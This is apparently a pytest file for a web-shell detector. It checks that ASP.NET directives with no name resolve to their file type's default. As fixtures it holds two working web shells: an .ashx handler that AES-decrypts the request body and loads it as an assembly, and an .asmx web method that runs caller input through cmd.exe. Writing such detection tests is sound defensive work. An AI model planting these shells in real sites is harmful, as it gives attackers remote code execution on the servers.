"""A `<%@ %>` block without a directive name is the default directive of the file's type (each
parser's `DefaultDirectiveName`): `@Page` in a page, `@Control` in a user control, `@WebHandler`
in an `.ashx`, `@WebService` in an `.asmx`. A handler written `<%@ Language="C#" Class="H" %>`
compiles as one, so the rest of its file is its code, read as a named directive's would be."""

from __future__ import annotations

import pytest

from code_support import assert_found, medium_or_above, run
from exhunt.codeanalysis.extract import extract

HANDLER = """<%@ {directive}Language="C#" Class="H" %>
public class H : System.Web.IHttpHandler, System.Web.SessionState.IRequiresSessionState
{{
    public bool IsReusable {{ get {{ return false; }} }}
    public void ProcessRequest(System.Web.HttpContext Context)
    {{
        byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
        byte[] data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)
            .TransformFinalBlock(Context.Request.BinaryRead(Context.Request.ContentLength), 0, Context.Request.ContentLength);
        System.Reflection.Assembly.Load(data).CreateInstance("P").Equals(Context);
    }}
}}"""

SERVICE = """<%@  Language="C#" Class="S" %>
using System.Web.Services;
public class S : WebService
{
    [WebMethod]
    public string Run(string c) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + c).Id.ToString(); }
}"""


@pytest.mark.parametrize("directive", ["", "WebHandler "])
def test_a_handler_whose_directive_has_no_name_is_read_whole(directive: str) -> None:
    report = assert_found(
        "h.ashx",
        HANDLER.format(directive=directive),
        "EXH-WS-CODE-ASSEMBLY",
        ["the request body", "AES", "loads it as an assembly", "in an HTTP handler"],
    )
    # The handler's own `Context` parameter is the framework's, not a planted class.
    assert "EXH-WS-CODE-PLANTED-DLL" not in medium_or_above(report)


def test_a_service_whose_directive_has_no_name_takes_its_callers_arguments() -> None:
    assert_found(
        "s.asmx",
        SERVICE,
        "EXH-WS-CODE-PROCESS",
        ["web-method parameter 'c'", "runs it as a command", "in a web method"],
    )


@pytest.mark.parametrize(
    ("extension", "name"),
    [
        (".aspx", "Page"),
        (".ascx", "Control"),
        (".master", "Master"),
        (".asax", "Application"),
        (".ashx", "WebHandler"),
        (".asmx", "WebService"),
        (".svc", "ServiceHost"),
    ],
)
def test_an_unnamed_directive_is_the_default_of_its_file_type(extension: str, name: str) -> None:
    found = extract('<%@ Language="C#" %>\n', extension)
    assert [d.name for d in found.directives] == [name]


def test_a_named_directive_keeps_its_name() -> None:
    found = extract('<%@ Import Namespace="System.IO" %>\n<%@ Language="C#" %>\n', ".ascx")
    assert [d.name for d in found.directives] == ["Import", "Control"]


def test_an_unnamed_handler_that_only_answers_stays_quiet() -> None:
    code = """<%@ Language="C#" Class="Ping" %>
public class Ping : System.Web.IHttpHandler
{
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(System.Web.HttpContext context)
    {
        context.Response.ContentType = "text/plain";
        context.Response.Write("pong " + System.Web.HttpUtility.HtmlEncode(context.Request["id"]));
    }
}"""
    assert medium_or_above(run("ping.ashx", code)) == []
